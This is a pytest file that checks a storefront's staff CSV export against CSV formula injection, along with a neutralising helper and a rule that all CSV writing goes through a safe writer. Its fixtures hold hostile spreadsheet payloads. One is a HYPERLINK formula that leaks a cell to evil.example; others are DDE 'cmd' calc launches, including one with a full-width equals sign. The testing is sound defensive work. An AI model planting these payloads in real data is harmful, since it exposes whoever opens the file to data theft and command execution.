"""CSV injection (OWASP): the staff CSV export is safe to open in a spreadsheet. Customer- and
staff-controlled text that would start a formula (``=``, ``+``, ``-``, ``@``, a leading tab
or CR/LF, after leading spaces too) comes out prefixed with a single quote and quoted; the
numeric columns the service writes stay unquoted numbers. Tested through the real export
endpoint with hostile names and addresses, on both backends."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pytest

from storefront.kit.csv_safe import SafeCsvWriter, neutralise
from storefront.orders.export import CSV_HEADER
from tests.support.factories import V1, Api, shop_with_staff

HOSTILE_ADDRESS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "line1": "+cmd|' /C calc'!A0",
    "line2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "postal_code": "=1+2",
    "country": "GB",
    "phone": "+44 20 7946 0000",
}
HOSTILE_PRODUCT = "\uff1dcmd|' /C calc'!A0"  # a full-width equals sign
NUMERIC = {"total_cents", "line_number", "unit_price_cents", "quantity", "line_total_cents"}
FORMULA_START = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


async def _export_rows(api: Api) -> tuple[str, list[dict[str, Any]], dict[str, Any]]:
    _, staff, shop = await shop_with_staff(api)
    product = await api.product(staff, shop, name=HOSTILE_PRODUCT, price_cents=250, stock=10)
    customer = await api.user()
    body = {
        "lines": [{"product_id": product["id"], "quantity": 3}],
        "shipping_address": HOSTILE_ADDRESS,
    }
    r = await api.client.post(
        f"{V1}/shops/{shop['id']}/orders",
        json=body,
        headers={**customer.auth, "Idempotency-Key": str(uuid.uuid4())},
    )
    assert r.status_code == 201, r.text
    r = await api.client.get(
        f"{V1}/shops/{shop['id']}/orders", headers={**staff.auth, "Accept": "text/csv"}
    )
    assert r.status_code == 200, r.text
    text = r.text
    # QUOTE_NONNUMERIC on reading: an unquoted field must be a number (read as float), so
    # this also proves every text cell is quoted and every numeric one is not
    reader = csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    header = next(reader)
    assert tuple(header) == CSV_HEADER
    rows = [dict(zip(header, row, strict=True)) for row in reader]
    return text, rows, product


async def test_formula_cells_are_neutralised_in_the_staff_csv_export(api: Api) -> None:
    text, rows, _ = await _export_rows(api)
    (row,) = rows
    for field, value in HOSTILE_ADDRESS.items():
        expected = value if field == "country" else "'" + value
        assert row[f"shipping_{field}"] == expected, field
    assert row["name"] == "'" + HOSTILE_PRODUCT
    # quoted, with the embedded quotes doubled (RFC 4180)
    assert '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"' in text
    for column, cell in row.items():
        if column in NUMERIC:
            assert isinstance(cell, float), (column, cell)
        else:
            assert isinstance(cell, str), (column, cell)
            assert not cell.startswith(FORMULA_START), (column, cell)
            assert not cell.lstrip().startswith(FORMULA_START), (column, cell)


async def test_numeric_columns_stay_numbers(api: Api) -> None:
    _, rows, _ = await _export_rows(api)
    (row,) = rows
    assert row["quantity"] == 3.0
    assert row["unit_price_cents"] == 250.0
    assert row["line_total_cents"] == 750.0
    assert row["total_cents"] == 750.0
    assert row["line_number"] == 1.0


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a negative number is still user text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rfoo", "'\rfoo"),
        ("\nfoo", "'\nfoo"),
        ("   =1+1", "'   =1+1"),  # after leading whitespace
        ("\u00a0@x", "'\u00a0@x"),
        ("\uff0b1", "'\uff0b1"),
        ("a=b", "a=b"),
        ("Zoë -1", "Zoë -1"),
        ("", ""),
        (" ", " "),
        (-5, -5),  # a number the service writes is left alone
        (0, 0),
    ],
)
def test_neutralise(cell: Any, expected: Any) -> None:
    assert neutralise(cell) == expected


def test_the_writer_quotes_text_and_leaves_numbers_bare() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(["plain", "=1+1", -250, 'say "hi"', ""])
    assert out.getvalue() == '"plain","\'=1+1",-250,"say ""hi""",""\r\n'


def test_no_module_writes_csv_but_through_the_safe_writer() -> None:
    """Every CSV the service writes goes through kit/csv_safe.py: no other module
    imports the csv module (a new export would otherwise skip the neutralising)."""
    import ast
    from pathlib import Path

    import storefront

    root = Path(storefront.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            if "csv" in names and path.name != "csv_safe.py":
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
